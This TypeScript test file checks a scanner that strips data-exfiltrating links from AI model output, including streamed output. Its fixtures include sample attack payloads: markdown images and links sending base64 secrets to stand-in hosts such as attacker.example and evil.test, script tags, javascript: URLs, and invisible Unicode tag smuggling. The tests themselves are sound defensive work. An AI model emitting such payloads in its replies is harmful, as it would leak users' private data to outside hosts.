import { test } from 'node:test';
import assert from 'node:assert/strict';
import { scanOutputLinks, linkStreamAdapter, rewriteOutputLinks, extractOutputUrls, exfilRiskyTail, sanitizeHtml, hostAllowed, dataScore, parseUrl } from './index.js';
import { createStreamScanner } from '../stream/index.js';

const cats = (text: string, policy = {}) => scanOutputLinks(text, policy).findings.map((f) => f.category);

test('markdown image with data in the query is found and removed, alt text kept', () => {
  const t = 'Summary done. ![loading](https://attacker.example/collect?d=VXNlciBzYWlkOiBteSBwYXNzd29yZCBpcw) Thanks!';
  const r = scanOutputLinks(t);
  assert.deepEqual(r.findings.map((f) => [f.category, f.severity]), [['data_exfiltration', 'critical']]);
  assert.equal(r.rewritten, 'Summary done. loading Thanks!');
  assert.ok(!r.findings[0].reason.includes('attacker'));
});

test('reference-style links and their definitions', () => {
  const t = 'See [the report][1].\n\n[1]: https://evil.test/x?q=secret\n';
  const r = scanOutputLinks(t);
  assert.deepEqual(r.findings.map((f) => f.category).sort(), ['data_exfiltration', 'data_exfiltration']);
  assert.ok(!r.rewritten.includes('evil.test'));
  assert.ok(r.rewritten.startsWith('See the report.'));
});

test('HTML img, iframe, a, script, form, srcset and CSS url()', () => {
  const t = [
    '<img src="https://evil.test/p.gif?c=1" alt="x">',
    '<iframe src="https://evil.test/f"></iframe>',
    '<a href="https://evil.test/a">text</a>',
    '<script>alert(1)</script>',
    '<form action="https://evil.test/f"><input name=a></form>',
    '<img srcset="https://evil.test/s1.png 1x, https://evil.test/s2.png 2x">',
    '<span style="background-image: url(https://evil.test/bg?x=1)">s</span>',
  ].join('\n');
  const kinds = extractOutputUrls(t).map((u) => u.kind);
  for (const k of ['html-img', 'html-iframe', 'html-a', 'html-script', 'html-form', 'html-srcset', 'html-style']) assert.ok(kinds.includes(k as never), k);
  const r = scanOutputLinks(t);
  assert.ok(!r.rewritten.includes('evil.test'));
  assert.ok(!r.rewritten.includes('<script'));
  assert.ok(r.rewritten.includes('text'));
});

test('autolinks and bare URLs', () => {
  assert.deepEqual(cats('go to <https://evil.test/x> or https://evil.test/y?z=1 now'), ['disallowed_url', 'data_exfiltration']);
  assert.deepEqual(extractOutputUrls('www.evil.test/a').map((u) => u.kind), ['bare']);
});

test('allow-listed domain passes; exact hosts, explicit wildcards only', () => {
  const policy = { allowHosts: ['docs.example.com', '*.cdn.example.net'] };
  const t = '![a](https://docs.example.com/i.png?v=2) [b](https://img.cdn.example.net/x) [c](https://cdn.example.net/x) [d](https://evildocs.example.com/x)';
  const r = scanOutputLinks(t, policy);
  assert.equal(r.findings.length, 2);
  assert.ok(r.rewritten.startsWith('![a](https://docs.example.com/i.png?v=2) [b](https://img.cdn.example.net/x) c d'));
  assert.equal(hostAllowed('docs.example.com.evil.test', ['docs.example.com']), false);
  assert.equal(hostAllowed('blob.core.windows.net', ['*.blob.core.windows.net']), false);
});

test('only URLs from trusted input when allowOnlyTrustedUrls', () => {
  const policy = { allowOnlyTrustedUrls: true, allowHosts: ['example.com'], trustedUrls: ['https://example.com/docs'] };
  assert.deepEqual(cats('[a](https://example.com/docs) [b](https://example.com/other)', policy), ['disallowed_url']);
});

test('data URIs, javascript: and invisible Unicode are flagged and stripped', () => {
  assert.deepEqual(cats('[x](javascript:alert(1))'), ['dangerous_scheme']);
  assert.deepEqual(cats('<img src="data:image/png;base64,iVBORw0KGgo=">'), ['data_uri']);
  const tags = [...'secret'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const r = scanOutputLinks(`hello${tags} wor\u200bld \u202Eevil`);
  assert.deepEqual(r.findings.map((f) => f.category), ['unicode_tags', 'invisible_unicode', 'invisible_unicode']);
  assert.equal(r.rewritten, 'hello world evil');
  const family = 'family 👨\u200D👩\u200D👧 ok';
  assert.deepEqual(scanOutputLinks(family).findings, []);
  assert.equal(scanOutputLinks(family).rewritten, family);
});

test('character-by-character exfiltration and too many URLs', () => {
  const seq = ['p', 'a', 's', 's'].map((c, i) => `![](https://evil.test/t/${i}${c}.png)`).join('');
  assert.ok(cats(seq).includes('char_by_char'));
  const acc = ['h', 'he', 'hel', 'hell'].map((c) => `![](https://evil.test/q/${c})`).join(' ');
  assert.ok(cats(acc).includes('char_by_char'));
  const many = Array.from({ length: 5 }, (_, i) => `[l${i}](https://ok.example/page-${'abcdefg'[i]}${i * 37})`).join(' ');
  assert.deepEqual(cats(many, { allowHosts: ['ok.example'], maxUrls: 3 }), ['too_many_urls', 'too_many_urls']);
  // Different pages on an allowed host are not a sequence.
  assert.deepEqual(cats(many, { allowHosts: ['ok.example'] }), []);
});

test('code blocks and benign markdown are not touched', () => {
  const t = '# Title\n\nUse `curl https://api.example.com/v1?x=1`.\n\n```\n![x](https://evil.test/?a=1)\n```\n\n- item **bold**\n';
  const r = scanOutputLinks(t);
  assert.deepEqual(r.findings, []);
  assert.equal(r.rewritten, t);
});

test('neutralize keeps the text and names the host; flag leaves the text alone', () => {
  const t = 'read [this](https://evil.test/a?b=c)';
  assert.equal(scanOutputLinks(t, { action: 'neutralize' }).rewritten, 'read this [link to evil.test removed]');
  assert.equal(scanOutputLinks(t, { action: 'flag' }).rewritten, t);
});

test('nested image in link: the image URL does not survive', () => {
  const r = scanOutputLinks('[![img](https://a.evil/i?x=1)](https://b.evil/l)');
  assert.equal(r.rewritten, 'img');
  assert.deepEqual(r.findings.map((f) => [f.category, f.severity]), [['disallowed_url', 'medium'], ['data_exfiltration', 'critical']]);
  // Inner image disallowed, outer link allowed: only the image goes.
  const inner = scanOutputLinks('[![img](https://a.evil/i?x=1)](https://docs.example.com/l)', { allowHosts: ['docs.example.com'] });
  assert.equal(inner.rewritten, '[img](https://docs.example.com/l)');
});

test('dataScore ranks encoded paths and queries above plain pages', () => {
  assert.ok(dataScore(parseUrl('https://e.test/aGVsbG8gd29ybGQgc2VjcmV0IGRhdGE')) >= 0.4);
  assert.ok(dataScore(parseUrl('https://e.test/a?q=1')) >= 0.4);
  assert.ok(dataScore(parseUrl('https://e.test/docs/getting-started')) < 0.4);
});

test('riskyTail holds unfinished links, tags and URLs only', () => {
  assert.equal(exfilRiskyTail('hello ![x](https://ev'), 15);
  assert.equal(exfilRiskyTail('hello [x'), 2);
  assert.equal(exfilRiskyTail('a <img sr'), 7);
  assert.equal(exfilRiskyTail('plain text.'), 0);
  assert.equal(exfilRiskyTail('if (a < b) { return x; }'), 0);
  assert.equal(exfilRiskyTail('text <'), 1);
  assert.equal(exfilRiskyTail('see [x](https://a.b/c) ok'), 0);
});

test('streaming: an exfil image split at every offset never reaches the client', () => {
  const url = 'https://attacker.example/c?d=' + 'c2VjcmV0LXRva2Vu';
  const text = `Here is the answer you asked for, all good. ![i](${url}) and more text after it. [ok](https://docs.example.com/a) end`;
  const policy = { allowHosts: ['docs.example.com'] };
  const expected = scanOutputLinks(text, policy).rewritten;
  for (let i = 0; i <= text.length; i++) {
    const s = createStreamScanner({ ...linkStreamAdapter(policy), holdBack: 16 });
    const out = s.push(text.slice(0, i)).emit + s.push(text.slice(i)).emit + s.end().emit;
    assert.ok(!out.includes('attacker'), `cut ${i}`);
    assert.equal(out, expected, `cut ${i}`);
  }
});

test('sanitizeHtml drops scripts and disallowed links/images', () => {
  const out = sanitizeHtml('<p onclick="x()">hi <a href="https://evil.test/x">l</a> <a href="https://ok.test/">k</a><img src="https://evil.test/i.png"><script>x</script></p>', { allowHosts: ['ok.test'], allowImages: true });
  assert.equal(out, '<p>hi <span>l</span> <a href="https://ok.test/">k</a></p>');
});

test('property: random chunkings of exfil payloads never leak the attacker URL', async () => {
  const fc = (await import('fast-check')).default;
  const payloads = [
    '![a](https://attacker.example/x?d=c2VjcmV0)',
    '<img src="https://attacker.example/p.gif?u=1">',
    '[click](https://attacker.example/collect/aGVsbG8gd29ybGQgc2VjcmV0)',
    'see [r][9]\n\n[9]: https://attacker.example/k?v=1\n',
    '<a href="https://attacker.example/q?x=1">here</a>',
  ];
  const words = fc.string({ unit: fc.constantFrom('a', ' ', '\n', '.', '*', '#', '-', 'b'), maxLength: 300 });
  fc.assert(
    fc.property(words, fc.constantFrom(...payloads), words, fc.array(fc.nat({ max: 700 }), { maxLength: 25 }), (a, p, b, cuts) => {
      const text = `${a}\n\n${p}\n\n${b}`;
      const s = createStreamScanner({ ...linkStreamAdapter({}), holdBack: 64 });
      const points = [...new Set(cuts.map((c) => Math.min(c, text.length)))].sort((x, y) => x - y);
      let out = '';
      let prev = 0;
      for (const c of [...points, text.length]) {
        out += s.push(text.slice(prev, c)).emit;
        prev = c;
      }
      out += s.end().emit;
      assert.ok(!out.includes('attacker.example'), JSON.stringify({ text, points }));
    }),
    { numRuns: 200 },
  );
});

test('rewriteOutputLinks removes reported spans even when a rescan of the prefix does not see them', () => {
  // The rescan finds no URL here (not a scheme it knows), but the span was reported by a scan with more context.
  const text = 'abc hxxps://evil.test/x?y=1 def';
  const start = text.indexOf('hxxps');
  const end = text.indexOf(' def');
  const f = { detector: 'exfil.url', category: 'data_exfiltration', severity: 'high' as const, score: 1, start, end, reason: 'x' };
  assert.equal(rewriteOutputLinks(text, [f]), 'abc  def');
});
